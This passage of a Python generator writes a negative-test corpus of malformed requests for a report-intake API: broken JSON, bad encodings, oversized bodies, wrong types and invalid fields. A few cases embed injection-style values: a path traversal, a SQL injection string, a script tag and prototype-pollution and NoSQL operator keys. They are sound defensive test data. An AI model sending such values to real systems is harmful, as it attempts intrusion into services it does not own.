"""Write the bad-request corpus (the *.jsonl files next to this script).

    python tests/data/bad_requests/generate.py          # from the repository root

The expectations here come from the intake contract (README, "Intake API"), never from running the
code: a case that disagrees with the service is either a bug in intake or a mistake here, and
tests/e2e/test_bad_requests.py says which case. tests/unit/test_bad_request_corpus.py fails when the
committed files are not what this script writes, so edit this script, run it, commit both.

Standard library only, and deterministic (no randomness, no clock): the same script always writes the
same bytes.
"""

from __future__ import annotations

import base64
import copy
import json
import sys
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
SINGLE = "/v1/reports"
BATCH = "/v1/reports/batch"
JSON = {"content-type": "application/json"}
MAX_BODY_BYTES = 256 * 1024
UNSHOWN = "(unknown field)"
DELETE = object()

#: A valid report touching every field; each field-level case breaks exactly one thing in it.
BASE: dict[str, Any] = {
    "business": "shop",
    "reporter": {"id": "user-1042", "role": "user"},
    "subject": {"type": "seller", "id": "seller-77"},
    "category": "item_not_received",
    "text": "Paid 120 USD for a phone, the seller never shipped it. Reach me at jane.doe@example.com.",
    "amount": {"value": 120, "currency": "USD"},
    "locale": "en-GB",
    "created_at": "2025-06-01T10:00:00Z",
}
#: The valid neighbours of a broken item in a mixed batch.
COMPANIONS = (
    {
        "business": "payments",
        "reporter": {"id": "user-2001", "role": "user"},
        "text": "Two card payments I never made, both to the same merchant.",
        "amount": {"value": "35.80", "currency": "EUR"},
    },
    {
        "business": "live",
        "reporter": {"id": "creator-3", "role": "creator"},
        "subject": {"type": "live_stream", "id": "stream-9"},
        "text": "A viewer keeps posting a fake giveaway link in my live chat.",
    },
)
BASE_TEXT = json.dumps(BASE)

Case = dict[str, Any]


# ------------------------------------------------------------------------------------------ builders


def case(
    category: str,
    slug: str,
    description: str,
    *,
    path: str,
    body: dict[str, Any] | None,
    expect: dict[str, Any],
    method: str = "POST",
    headers: dict[str, str] | None = None,
    chunked: bool = False,
) -> Case:
    request: dict[str, Any] = {
        "method": method,
        "path": path,
        "headers": JSON if headers is None else headers,
    }
    if body is not None:
        request["body"] = body
    if chunked:
        request["chunked"] = True
    route = "batch" if path == BATCH else "single" if path == SINGLE else "other"
    return {
        "id": f"{category}.{slug}.{route}",
        "category": category,
        "description": description,
        "request": request,
        "expect": expect,
    }


def refused(status: int, code: str | None, **extra: Any) -> dict[str, Any]:
    return {"status": status, "code": code, **extra}


def on_both_routes(
    category: str, slug: str, description: str, body: dict[str, Any], expect: dict[str, Any], **kw: Any
) -> list[Case]:
    """A request refused as a whole before any report is looked at: the same on either route."""
    return [
        case(category, slug, description, path=path, body=body, expect=expect, **kw)
        for path in (SINGLE, BATCH)
    ]


def with_field(report: dict[str, Any], dotted: str, value: Any) -> dict[str, Any]:
    changed = copy.deepcopy(report)
    *parents, last = dotted.split(".")
    target = changed
    for name in parents:
        target = target[name]
    if value is DELETE:
        del target[last]
    else:
        target[last] = value
    return changed


def item_field(index: int, field: str) -> str:
    return f"reports[{index}]" if field == "(body)" else f"reports[{index}].{field}"


def invalid_report(
    category: str,
    slug: str,
    description: str,
    report: Any,
    fields: list[str],
    *,
    fields_include: bool = False,
) -> list[Case]:
    """One invalid report: alone on /v1/reports (422), and after a valid one in a batch (202: the
    valid report is accepted, the invalid one rejected with the same fields, prefixed)."""
    key = "fields_include" if fields_include else "fields"
    single = case(
        category,
        slug,
        description,
        path=SINGLE,
        body={"json": report},
        expect=refused(422, "validation_error", **{key: fields}),
    )
    batch = case(
        category,
        slug,
        description + " (in a batch, after a valid report)",
        path=BATCH,
        body={"json": {"reports": [COMPANIONS[0], report]}},
        expect={
            "status": 202,
            "items": [
                {"index": 0, "status": "accepted"},
                {"index": 1, "status": "rejected", key: [item_field(1, f) for f in fields]},
            ],
        },
    )
    return [single, batch]


def field_cases(
    category: str, field: str, values: Iterable[tuple[str, Any, str]], *, fields: list[str] | None = None
) -> list[Case]:
    """`field` set to each of `values` (slug, value, description); the error must name `fields`."""
    named = fields if fields is not None else [field]
    out: list[Case] = []
    for slug, value, description in values:
        out += invalid_report(category, slug, description, with_field(BASE, field, value), named)
    return out


def repeat(unit: str, count: int) -> dict[str, Any]:
    return {"$repeat": [unit, count]}


def concat(*pieces: Any) -> dict[str, Any]:
    return {"$concat": list(pieces)}


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def text_around(
    raw: bytes, before: str = '{"business": "shop", "text": "', after: str = '"}'
) -> dict[str, Any]:
    """A body that is JSON text except for `raw` in the middle (shown as base64 in the file)."""
    return {"parts": [{"text": before}, {"base64": b64(raw)}, {"text": after}]}


# --------------------------------------------------------------------------------- request as a whole


def malformed_json() -> list[Case]:
    bad = refused(400, "malformed_json")
    documents = [
        ("trailing-comma", '{"business": "shop", "text": "x",}', "a trailing comma"),
        ("single-quotes", "{'business': 'shop', 'text': 'x'}", "single-quoted strings"),
        ("unquoted-keys", '{business: "shop", text: "x"}', "unquoted keys"),
        ("block-comment", '{"business": "shop" /* why not */, "text": "x"}', "a /* comment */"),
        ("line-comment", '// a report\n{"business": "shop", "text": "x"}', "a // comment"),
        ("trailing-garbage", BASE_TEXT + " x", "a valid report followed by garbage"),
        ("two-documents", BASE_TEXT + BASE_TEXT, "two JSON documents back to back"),
        ("extra-closing-brace", BASE_TEXT + "}", "one closing brace too many"),
        ("missing-colon", '{"business" "shop"}', "a member without its colon"),
        ("missing-comma", '{"business": "shop" "text": "x"}', "members without a comma between them"),
        ("unterminated-string", '{"business": "shop", "text": "never ends', "an unterminated string"),
        ("invalid-escape", '{"text": "\\x41"}', "a \\x escape, which JSON does not have"),
        ("short-unicode-escape", '{"text": "\\u12"}', "a \\u escape with two hex digits"),
        ("hex-number", '{"amount": {"value": 0x10, "currency": "USD"}}', "a hexadecimal number"),
        ("leading-zero", '{"amount": {"value": 012, "currency": "USD"}}', "a number with a leading zero"),
        ("plus-sign", '{"amount": {"value": +1, "currency": "USD"}}', "a number with a plus sign"),
        ("bare-fraction", '{"amount": {"value": .5, "currency": "USD"}}', "a number starting with a dot"),
        ("trailing-dot", '{"amount": {"value": 1., "currency": "USD"}}', "a number ending with a dot"),
        ("python-literals", '{"text": "x", "flag": True, "other": None}', "Python's True and None"),
        ("undefined", '{"text": undefined}', "JavaScript's undefined"),
        ("nan", '{"amount": {"value": NaN, "currency": "USD"}}', "NaN, which is not JSON"),
        ("infinity", '{"amount": {"value": Infinity, "currency": "USD"}}', "Infinity"),
        ("minus-infinity", '{"amount": {"value": -Infinity, "currency": "USD"}}', "-Infinity"),
        ("nan-in-text", '{"text": NaN}', "NaN where the text should be"),
        ("lone-bracket", "]", "a lone closing bracket"),
        ("array-trailing-comma", '{"reports": [1,]}', "an array with a trailing comma"),
        ("form-encoded", "business=shop&text=hello", "a form-encoded body sent as JSON"),
        ("xml", "<report><text>hello</text></report>", "an XML body sent as JSON"),
        ("raw-newline-in-string", '{"text": "line one\nline two"}', "an unescaped newline in a string"),
        ("raw-tab-in-string", '{"text": "a\tb"}', "an unescaped tab in a string"),
        ("whitespace-only", " \n\t\r\n ", "a body of whitespace only"),
        ("utf8-bom", "\ufeff" + BASE_TEXT, "a valid report behind a UTF-8 byte order mark"),
    ]
    out: list[Case] = []
    for slug, text, description in documents:
        out += on_both_routes("malformed_json", slug, description, {"text": text}, bad)
    out += on_both_routes("malformed_json", "empty", "an empty body (Content-Length: 0)", {"text": ""}, bad)
    # Truncated in flight: every proper prefix of a JSON object is invalid JSON.
    cuts = sorted(
        {1, 2, 10, 25, 60, 100, 150, 200, len(BASE_TEXT) // 2, len(BASE_TEXT) - 2, len(BASE_TEXT) - 1}
    )
    for cut in cuts:
        description = f"a valid report cut after {cut} of {len(BASE_TEXT)} characters"
        out += on_both_routes("truncated_json", f"cut-{cut}", description, {"text": BASE_TEXT[:cut]}, bad)
    return out


def nul_bytes_in_the_body() -> list[Case]:
    bad = refused(400, "malformed_json")
    bodies = [
        ("in-string", text_around(b"before\x00after"), "a raw NUL byte inside a string"),
        (
            "between-tokens",
            {"parts": [{"text": '{"text":'}, {"base64": b64(b"\x00")}, {"text": '"x"}'}]},
            "a raw NUL byte between tokens",
        ),
        (
            "terminator",
            {"parts": [{"text": BASE_TEXT}, {"base64": b64(b"\x00")}]},
            "a valid report followed by a C-style NUL terminator",
        ),
        (
            "utf16-be",
            {"base64": b64(BASE_TEXT.encode("utf-16-be"))},
            "a report in UTF-16BE without a byte order mark (valid UTF-8, every other byte NUL)",
        ),
        ("utf32-le", {"base64": b64(BASE_TEXT.encode("utf-32-le"))}, "a report in UTF-32LE"),
    ]
    out: list[Case] = []
    for slug, body, description in bodies:
        out += on_both_routes("nul_bytes", slug, description, body, bad)
    return out


def invalid_utf8() -> list[Case]:
    bad = refused(400, "invalid_encoding")
    sequences = [
        ("ff", b"\xff", "the byte 0xFF, never valid in UTF-8"),
        ("fe-ff", b"\xfe\xff", "a UTF-16 byte order mark inside a string"),
        ("bad-continuation", b"\xc3\x28", "a lead byte followed by a non-continuation byte"),
        ("lone-continuation", b"\x80", "a continuation byte on its own"),
        ("overlong-slash", b"\xc0\xaf", "an overlong encoding of '/'"),
        ("overlong-nul", b"\xc0\x80", "an overlong encoding of NUL (Java's modified UTF-8)"),
        ("encoded-surrogate", b"\xed\xa0\x80", "a UTF-16 surrogate encoded as UTF-8"),
        ("cesu8-emoji", b"\xed\xa0\xbd\xed\xb8\x80", "an emoji as two encoded surrogates (CESU-8)"),
        ("truncated-sequence", b"\xe2\x82", "a three-byte sequence cut after two bytes"),
        ("five-byte", b"\xf8\x88\x80\x80\x80", "an obsolete five-byte sequence"),
        ("beyond-unicode", b"\xf4\x90\x80\x80", "a code point above U+10FFFF"),
        ("latin1-e-acute", "caf\u00e9".encode("latin-1"), "Latin-1 text sent as UTF-8"),
        ("windows-1252-quotes", "\u201cquoted\u201d".encode("cp1252"), "Windows-1252 smart quotes"),
    ]
    out: list[Case] = []
    for slug, raw, description in sequences:
        out += on_both_routes("invalid_utf8", slug, description, text_around(raw), bad)
    out += on_both_routes(
        "invalid_utf8",
        "in-a-key",
        "invalid UTF-8 in an object key",
        text_around(b"\xff", before='{"', after='": 1}'),
        bad,
    )
    out += on_both_routes(
        "invalid_utf8",
        "utf16-le-bom",
        "a report in UTF-16LE with its byte order mark",
        {"base64": b64(BASE_TEXT.encode("utf-16"))},
        bad,
    )
    return out


def wrong_content_types() -> list[Case]:
    bad = refused(415, "unsupported_media_type")
    valid_body = {"json": BASE}
    content_types = [
        ("missing", None, "no Content-Type header"),
        ("empty", "", "an empty Content-Type header"),
        ("text-plain", "text/plain", "text/plain"),
        ("text-json", "text/json", "text/json (not a registered JSON type)"),
        ("text-html", "text/html; charset=utf-8", "text/html"),
        ("form", "application/x-www-form-urlencoded", "a form"),
        ("multipart", "multipart/form-data; boundary=xyz", "multipart/form-data"),
        ("xml", "application/xml", "application/xml"),
        ("javascript", "application/javascript", "application/javascript"),
        ("octet-stream", "application/octet-stream", "application/octet-stream"),
        ("any", "*/*", "*/*"),
        ("jsonp", "application/jsonp", "application/jsonp"),
        ("json-seq", "application/json-seq", "application/json-seq (JSON text sequences)"),
        ("bare-json", "json", "'json' without a type"),
        ("space-in-type", "application /json", "a space inside the media type"),
        ("two-types", "application/json, text/plain", "two media types in one header"),
        ("latin1", "application/json; charset=latin-1", "JSON declared as Latin-1"),
        ("iso-8859-1", "application/json; charset=ISO-8859-1", "JSON declared as ISO-8859-1"),
        ("utf16", "application/json; charset=utf-16", "JSON declared as UTF-16"),
        ("us-ascii", "application/json; charset=us-ascii", "JSON declared as US-ASCII"),
        ("empty-charset", "application/json; charset=", "an empty charset parameter"),
        ("second-charset", "application/json; charset=utf-8; charset=latin-1", "a second, other charset"),
        ("image", "image/png", "image/png"),
    ]
    out: list[Case] = []
    for slug, content_type, description in content_types:
        headers = {} if content_type is None else {"content-type": content_type}
        description = f"a valid report sent as {description}"
        out += on_both_routes("wrong_content_type", slug, description, valid_body, bad, headers=headers)
    return out


def bodies_too_large() -> list[Case]:
    out: list[Case] = []
    head = json.dumps({key: value for key, value in BASE.items() if key != "text"})[:-1] + ', "text": "'
    tail = '"}'

    def padded_report(total_bytes: int) -> dict[str, Any]:
        fill = total_bytes - len(head) - len(tail)
        return {"parts": [{"text": head}, {"repeat": ["a", fill]}, {"text": tail}]}

    too_large = refused(413, "payload_too_large")
    out += on_both_routes(
        "body_too_large",
        "one-byte-over",
        f"a report of {MAX_BODY_BYTES + 1} bytes (the limit + 1)",
        padded_report(MAX_BODY_BYTES + 1),
        too_large,
    )
    out += on_both_routes(
        "body_too_large",
        "one-mib",
        "1 MiB: whitespace around an empty object",
        {"parts": [{"repeat": [" ", 1024 * 1024]}, {"text": "{}"}]},
        too_large,
    )
    out += on_both_routes(
        "body_too_large",
        "multibyte",
        "90,000 characters but 270,000 bytes: the limit is in bytes",
        {"parts": [{"text": head}, {"repeat": ["\u20ac", 90_000]}, {"text": tail}]},
        too_large,
    )
    out += on_both_routes(
        "body_too_large",
        "chunked",
        "300 KB sent with chunked transfer encoding (no Content-Length)",
        padded_report(300 * 1024),
        too_large,
        chunked=True,
    )
    out += on_both_routes(
        "body_too_large",
        "over-gateway-limit",
        "11 MiB: over API Gateway's own 10 MiB limit",
        {"parts": [{"repeat": [" ", 11 * 1024 * 1024]}, {"text": "{}"}]},
        refused(413, None, answered_by="gateway"),
    )
    hundred = {"reports": {"$copies": [with_field(BASE, "text", repeat("x", 2700)), 100]}}
    out.append(
        case(
            "body_too_large",
            "batch-of-100",
            "100 reports of 2,700 characters: each valid, together > 256 KB",
            path=BATCH,
            body={"json": hundred},
            expect=too_large,
        )
    )
    # At the limit the body is read; its text is what is wrong then.
    out.append(
        case(
            "long_text",
            "body-at-limit",
            f"a report of exactly {MAX_BODY_BYTES} bytes: its text is too long",
            path=SINGLE,
            body=padded_report(MAX_BODY_BYTES),
            expect=refused(422, "validation_error", fields=["text"]),
        )
    )
    return out


def huge_numbers_and_nesting() -> list[Case]:
    bad = refused(400, "malformed_json")
    out: list[Case] = []
    numbers = [
        ("5000-digits", "9" * 5000, "an integer of 5,000 digits (beyond Python's 4,300-digit limit)"),
        ("exponent-overflow", "1e999999999999999999999", "an exponent no decimal type holds"),
        ("exponent-underflow", "-1E-999999999999999999999", "a negative exponent no decimal type holds"),
    ]
    for slug, number, description in numbers:
        digits: dict[str, Any] = {"repeat": ["9", 5000]} if number == "9" * 5000 else {"text": number}
        body = {
            "parts": [
                {"text": '{"business": "shop", "amount": {"value": '},
                digits,
                {"text": ', "currency": "USD"}}'},
            ]
        }
        out += on_both_routes("huge_numbers", slug, description, body, bad)
    nestings = [
        ("arrays-100k", "[", "]", 100_000, "arrays nested 100,000 deep"),
        ("objects-5000", '{"a":', "}", 5000, "objects nested 5,000 deep"),
        ("arrays-2000", "[", "]", 2000, "arrays nested 2,000 deep"),
    ]
    for slug, opening, closing, depth, description in nestings:
        body = {
            "parts": [
                {"text": '{"business": "shop", "text": '},
                {"repeat": [opening, depth]},
                {"text": "1" if opening != "[" else ""},
                {"repeat": [closing, depth]},
                {"text": "}"},
            ]
        }
        out += on_both_routes("deep_nesting", slug, description, body, bad)
    return out


def wrong_routes() -> list[Case]:
    not_found = refused(404, None, answered_by="gateway")
    routes = [
        ("GET", SINGLE, "get-reports", "GET on the single route"),
        ("PUT", SINGLE, "put-reports", "PUT on the single route"),
        ("DELETE", SINGLE, "delete-reports", "DELETE on the single route"),
        ("PATCH", SINGLE, "patch-reports", "PATCH on the single route"),
        ("GET", BATCH, "get-batch", "GET on the batch route"),
        ("POST", SINGLE + "/", "trailing-slash", "a trailing slash"),
        ("POST", BATCH + "/", "batch-trailing-slash", "a trailing slash on the batch route"),
        ("POST", "/v1/report", "singular", "/v1/report"),
        ("POST", "/v1/REPORTS", "upper-case", "an upper-case path"),
        ("POST", "/v2/reports", "other-version", "an API version that does not exist"),
        ("POST", BATCH + "/extra", "batch-subpath", "a path below the batch route"),
        ("POST", "/v1/reports/..%2F..%2Fadmin", "encoded-traversal", "a percent-encoded path traversal"),
    ]
    return [
        case(
            "wrong_route", slug, description, method=method, path=path, body={"json": BASE}, expect=not_found
        )
        for method, path, slug, description in routes
    ]


# ------------------------------------------------------------------------------- one invalid report


def wrong_types() -> list[Case]:
    out: list[Case] = []
    by_field: list[tuple[str, list[tuple[str, Any]]]] = [
        ("business", [("number", 1), ("true", True), ("null", None), ("array", ["shop"]), ("object", {})]),
        ("reporter", [("string", "user-1042"), ("array", []), ("null", None), ("number", 7)]),
        ("reporter.id", [("number", 1042), ("true", True), ("null", None), ("array", ["u"]), ("object", {})]),
        ("reporter.role", [("number", 1), ("null", None), ("array", ["user"]), ("object", {})]),
        ("subject", [("string", "seller-77"), ("array", []), ("number", 77), ("true", True)]),
        ("subject.type", [("number", 1), ("null", None), ("array", ["seller"])]),
        ("subject.id", [("number", 77), ("null", None), ("object", {"id": "x"})]),
        ("category", [("number", 3), ("array", ["a"]), ("object", {}), ("true", True)]),
        (
            "text",
            [
                ("number", 42),
                ("float", 1.5),
                ("null", None),
                ("array", ["x"]),
                ("object", {}),
                ("true", True),
            ],
        ),
        ("amount", [("string", "120 USD"), ("number", 120), ("array", [120, "USD"]), ("true", True)]),
        (
            "amount.value",
            [
                ("true", True),
                ("array", [120]),
                ("object", {}),
                ("null", None),
                ("empty-string", ""),
                ("word", "five"),
                ("comma-decimal", "12,50"),
                ("spaced", "1 000"),
            ],
        ),
        ("amount.currency", [("number", 840), ("null", None), ("array", ["USD"]), ("true", True)]),
        ("locale", [("number", 1), ("array", ["en"]), ("object", {}), ("true", True)]),
        ("report_id", [("number", 12345), ("true", True), ("array", ["r1"]), ("object", {})]),
        (
            "created_at",
            [
                ("zero", 0),
                ("unix-seconds", 1700000000),
                ("unix-string", "1700000000"),
                ("float", 1.7e9),
                ("true", True),
                ("array", []),
                ("object", {}),
            ],
        ),
    ]
    for field, values in by_field:
        out += field_cases(
            "wrong_types",
            field,
            [(f"{field}-{slug}", value, f"{field} as {slug.replace('-', ' ')}") for slug, value in values],
        )
    for slug, document in [
        ("array", [BASE]),
        ("string", "report"),
        ("number", 1),
        ("null", None),
        ("true", True),
    ]:
        out.append(
            case(
                "wrong_types",
                f"body-{slug}",
                f"the body is a JSON {slug}, not an object",
                path=SINGLE,
                body={"json": document},
                expect=refused(422, "validation_error", fields=["(body)"]),
            )
        )
    return out


def missing_fields() -> list[Case]:
    out: list[Case] = []
    for field in [
        "business",
        "reporter",
        "text",
        "reporter.id",
        "reporter.role",
        "subject.type",
        "subject.id",
        "amount.value",
        "amount.currency",
    ]:
        out += invalid_report(
            "missing_fields", field, f"{field} is missing", with_field(BASE, field, DELETE), [field]
        )
    out += invalid_report(
        "missing_fields", "empty-object", "an empty object", {}, ["business", "reporter", "text"]
    )
    out += invalid_report(
        "missing_fields",
        "empty-reporter",
        "an empty reporter",
        with_field(BASE, "reporter", {}),
        ["reporter.id", "reporter.role"],
    )
    return out


def unknown_fields() -> list[Case]:
    out: list[Case] = []
    shown = [
        ("colour", "an unknown top-level field"),
        ("Text", "a field name in the wrong case"),
        ("reporterId", "a camelCase field the contract does not have"),
        ("email", "a field meant to smuggle PII past redaction"),
        ("__proto__", "a prototype-pollution key"),
        ("constructor", "another prototype key"),
        ("$where", "a NoSQL operator as a key"),
        ("schema_version", "a field of the queue message, not of the API"),
        ("received_at", "a server-set time"),
        ("redactions", "a server-set audit field"),
    ]
    for key, description in shown:
        report = dict(BASE, **{key: "jane.doe@example.com"})
        out += invalid_report("unknown_fields", key.strip("_$") or key, description, report, [key])
    nested = [
        ("reporter", "email", "an unknown field in reporter"),
        ("reporter", "id_hash", "a pseudonym the client tries to set itself"),
        ("subject", "name", "an unknown field in subject"),
        ("amount", "usd", "an unknown field in amount"),
    ]
    for parent, key, description in nested:
        report = with_field(BASE, f"{parent}.{key}", "jane.doe@example.com")
        out += invalid_report("unknown_fields", f"{parent}-{key}", description, report, [f"{parent}.{key}"])
    # Keys that are not field names are not echoed (they could carry PII, or be 10 KB long).
    hidden = [
        ("pii-key", "jane.doe@example.com", "an e-mail address as a key"),
        ("space-key", "my field", "a key with a space"),
        ("trailing-space-key", "text ", "'text ' with a trailing space"),
        ("empty-key", "", "an empty key"),
        ("nul-key", "\u0000", "a NUL character as a key"),
        ("html-key", "<script>alert(1)</script>", "markup as a key"),
        ("long-key", "k" * 1000, "a 1,000-character key"),
        ("dotted-key", "reporter.role", "a dotted key that would read as a nested path"),
    ]
    for slug, key, description in hidden:
        out += invalid_report("unknown_fields", slug, description, dict(BASE, **{key: 1}), [UNSHOWN])
    many = dict(BASE, **{f"extra_{n}": n for n in range(400)})
    out += invalid_report(
        "unknown_fields",
        "400-keys",
        "400 unknown keys: the answer lists 50 errors, the last says how many more",
        many,
        ["extra_0", "(body)"],
        fields_include=True,
    )
    return out


def empty_and_long_text() -> list[Case]:
    out: list[Case] = []
    empty = [
        ("empty", "", "an empty text"),
        ("space", " ", "a single space"),
        ("spaces", "     ", "spaces only"),
        ("newline", "\n", "a newline"),
        ("tabs", "\t\t", "tabs"),
        ("crlf", "\r\n\r\n", "CR LF pairs"),
        ("mixed", " \n\t \r\n ", "mixed white space"),
        ("nbsp", "\u00a0\u00a0", "no-break spaces"),
        ("ideographic", "\u3000", "an ideographic space"),
        ("em-spaces", "\u2003\u2002\u2009", "em, en and thin spaces"),
        ("line-separator", "\u2028\u2029", "line and paragraph separators"),
        ("ogham", "\u1680", "an Ogham space mark"),
        ("narrow-nbsp", "\u202f\u205f", "narrow no-break and medium mathematical spaces"),
    ]
    out += field_cases("empty_text", "text", [(slug, value, f"text: {d}") for slug, value, d in empty])
    invisible = [
        ("zwsp", "\u200b", "a zero-width space"),
        ("zero-widths", "\u200b\u200c\u200d", "zero-width space, non-joiner and joiner"),
        ("bom", "\ufeff", "a byte order mark"),
        ("word-joiner", "\u2060\u2060", "word joiners"),
        ("direction-marks", "\u200e\u200f", "left-to-right and right-to-left marks"),
        ("rlo", "\u202e", "a right-to-left override alone"),
        ("isolates", "\u2066\u2069", "a bidi isolate and its end"),
        ("spaced-zwsp", " \u200b \u200b ", "zero-width spaces between spaces"),
        ("mongolian-separator", "\u180e", "a Mongolian vowel separator"),
    ]
    out += field_cases(
        "whitespace_text", "text", [(slug, v, f"text of only {d}") for slug, v, d in invisible]
    )
    long = [
        ("5001-ascii", repeat("a", 5001), "5,001 letters"),
        ("5001-emoji", repeat("\U0001f600", 5001), "5,001 emoji (non-BMP: 10,002 UTF-16 units)"),
        ("5001-cjk", repeat("\u4e2d", 5001), "5,001 CJK characters"),
        ("5001-padded", concat("   ", repeat("b", 5001), " \n "), "5,001 letters padded with white space"),
        ("10008", repeat("long report ", 834), "10,008 characters of words"),
        ("100000", repeat("x", 100_000), "100,000 characters"),
    ]
    out += field_cases("long_text", "text", [(slug, value, f"text of {d}") for slug, value, d in long])
    limits = [
        ("category-101", "category", repeat("c", 101), "a category of 101 characters"),
        ("category-101-emoji", "category", repeat("\U0001f4e6", 101), "a category of 101 emoji"),
        ("reporter-id-257", "reporter.id", repeat("r", 257), "a reporter id of 257 characters"),
        ("subject-id-257", "subject.id", repeat("s", 257), "a subject id of 257 characters"),
        ("report-id-129", "report_id", repeat("i", 129), "a report id of 129 characters"),
        ("business-65", "business", repeat("b", 65), "a business of 65 characters"),
    ]
    for slug, field, value, description in limits:
        out += invalid_report("long_text", slug, description, with_field(BASE, field, value), [field])
    return out


def control_characters() -> list[Case]:
    """Every C0 control but tab, LF and CR, DEL and every C1 control, in the middle of the text.

    Each is sent alone; a few also inside a batch (the batch path is the same for every control
    character, and a mixed batch costs an enqueue, so 62 of them would only slow the run down)."""
    out: list[Case] = []
    codes = [c for c in range(0x20) if chr(c) not in "\t\n\r"] + [0x7F] + list(range(0x80, 0xA0))
    in_a_batch = {0x00, 0x01, 0x0B, 0x1B, 0x1F, 0x7F, 0x85, 0x9F}
    for code in codes:
        category = "nul_bytes" if code == 0 else "control_characters"
        text = f"The seller sent a file{chr(code)}that would not open."
        single, batch = invalid_report(
            category,
            f"text-u{code:04x}",
            f"U+{code:04X} inside the text",
            with_field(BASE, "text", text),
            ["text"],
        )
        out += [single, batch] if code in in_a_batch else [single]
    elsewhere = [
        ("category-nul", "category", "scam\u0000", "a NUL in the category"),
        ("category-ansi", "category", "scam\u001b[31m", "an ANSI escape in the category"),
        ("reporter-id-nul", "reporter.id", "user\u00001042", "a NUL inside the reporter id"),
        ("reporter-id-bell", "reporter.id", "user\u0007", "a bell in the reporter id"),
        ("subject-id-escape", "subject.id", "seller\u001b77", "an escape in the subject id"),
        ("text-only-nul", "text", "\u0000", "a text of one NUL"),
        ("text-leading-nuls", "text", "\u0000" * 50 + "hello", "a text behind 50 NULs"),
    ]
    for slug, field, value, description in elsewhere:
        category = "nul_bytes" if "\u0000" in value else "control_characters"
        out += invalid_report(category, slug, description, with_field(BASE, field, value), [field])
    # An escaped lone surrogate is valid JSON but not a Unicode string.
    for slug, text_json, fields in [
        ("lone-high-surrogate", '"before \\ud800 after"', ["text"]),
        ("lone-low-surrogate", '"\\udc00"', ["text"]),
    ]:
        body = BASE_TEXT.replace(json.dumps(BASE["text"]), text_json)
        out.append(
            case(
                "invalid_unicode",
                slug,
                f"text with a {slug.replace('-', ' ')} escape",
                path=SINGLE,
                body={"text": body},
                expect=refused(422, "validation_error", fields=fields),
            )
        )
        batch_text = '{"reports": [' + json.dumps(COMPANIONS[0]) + ", " + body + "]}"
        out.append(
            case(
                "invalid_unicode",
                slug,
                f"text with a {slug.replace('-', ' ')} escape, in a batch",
                path=BATCH,
                body={"text": batch_text},
                expect={
                    "status": 202,
                    "items": [
                        {"index": 0, "status": "accepted"},
                        {"index": 1, "status": "rejected", "fields": ["reports[1].text"]},
                    ],
                },
            )
        )
    return out


def amounts_and_currencies() -> list[Case]:
    out: list[Case] = []
    values = [
        ("negative", -1, "a negative amount"),
        ("negative-cents", -0.01, "minus one cent"),
        ("negative-tiny", -1e-7, "a tiny negative amount (it would round to 0; it is still negative)"),
        ("negative-billion", -1_000_000_000, "minus a billion"),
        ("over-max", 1_000_000_000.01, "one cent over the 10^9 maximum"),
        ("ten-billion", 10_000_000_000, "ten billion"),
        ("1e999", {"$raw": "1e999"}, "1e999"),
        ("400-digits", {"$raw": "9" * 400}, "an integer of 400 digits"),
        ("nan-string", "NaN", "the string NaN"),
        ("infinity-string", "Infinity", "the string Infinity"),
        ("minus-infinity-string", "-Infinity", "the string -Infinity"),
        ("snan-string", "sNaN", "a signalling NaN as a string"),
        ("huge-exponent-string", "1e999999999999999999999999", "a string no decimal type holds"),
        ("negative-string", "-5.00", "a negative amount as a string"),
    ]
    for slug, value, description in values:
        if isinstance(value, dict):  # a number json.dumps cannot write: splice it in as text
            body_text = BASE_TEXT.replace('"value": 120', '"value": ' + value["$raw"])
            out.append(
                case(
                    "bad_amount",
                    slug,
                    f"amount.value: {description}",
                    path=SINGLE,
                    body={"text": body_text},
                    expect=refused(422, "validation_error", fields=["amount.value"]),
                )
            )
            batch_text = '{"reports": [' + body_text + ", " + json.dumps(COMPANIONS[1]) + "]}"
            out.append(
                case(
                    "bad_amount",
                    slug,
                    f"amount.value: {description}, in a batch",
                    path=BATCH,
                    body={"text": batch_text},
                    expect={
                        "status": 202,
                        "items": [
                            {"index": 0, "status": "rejected", "fields": ["reports[0].amount.value"]},
                            {"index": 1, "status": "accepted"},
                        ],
                    },
                )
            )
            continue
        out += invalid_report(
            "bad_amount",
            slug,
            f"amount.value: {description}",
            with_field(BASE, "amount.value", value),
            ["amount.value"],
        )
    currencies = [
        ("lower-case", "usd"),
        ("mixed-case", "Usd"),
        ("two-letters", "US"),
        ("four-letters", "USDD"),
        ("unknown", "ABC"),
        ("no-currency-code", "XXX"),
        ("crypto", "BTC"),
        ("empty", ""),
        ("leading-space", " USD"),
        ("trailing-space", "USD "),
        ("symbol", "\u20ac"),
        ("dollar", "$"),
        ("us-dollar", "US$"),
        ("numeric-code", "840"),
        ("full-width", "\uff35\uff33\uff24"),
        ("withdrawn", "DEM"),
        ("sql", "USD' OR '1'='1"),
    ]
    for slug, currency in currencies:
        out += invalid_report(
            "bad_currency",
            slug,
            f"currency {currency!r}",
            with_field(BASE, "amount.currency", currency),
            ["amount.currency"],
        )
    out += invalid_report(
        "bad_amount",
        "both-wrong",
        "a negative value in a made-up currency",
        with_field(with_field(BASE, "amount.value", -3), "amount.currency", "ZZZ"),
        ["amount.value", "amount.currency"],
    )
    return out


def dates() -> list[Case]:
    out: list[Case] = []
    future = [
        ("year-2100", "2100-01-01T00:00:00Z", "1 January 2100"),
        ("year-2999", "2999-12-31T23:59:59+00:00", "the year 2999"),
        ("year-9999", "9999-12-31T23:59:59Z", "the last second of year 9999"),
        ("year-9999-west", "9999-12-31T23:59:59-12:00", "year 9999 west of UTC (beyond it in UTC)"),
    ]
    out += field_cases("future_date", "created_at", [(s, v, f"created_at {d}") for s, v, d in future])
    malformed = [
        ("word", "yesterday", "a word"),
        ("empty", "", "an empty string"),
        ("month-13", "2025-13-09T08:30:00Z", "month 13"),
        ("february-30", "2025-02-30T08:30:00Z", "30 February"),
        ("hour-25", "2025-03-09T25:30:00Z", "hour 25"),
        ("minute-60", "2025-03-09T08:60:00Z", "minute 60"),
        ("no-time-zone", "2025-03-09T08:30:00", "no time zone"),
        ("date-only", "2025-03-09", "a date without a time"),
        ("us-format", "03/09/2025 08:30", "a US-style date"),
        ("offset-25h", "2025-03-09T08:30:00+25:00", "a 25-hour offset"),
        ("tz-name", "2025-03-09T08:30:00 UTC", "a zone name instead of an offset"),
        ("double-z", "2025-03-09T08:30:00ZZ", "two Zs"),
        ("week-date", "2025-W10-7T08:30:00Z", "an ISO week date"),
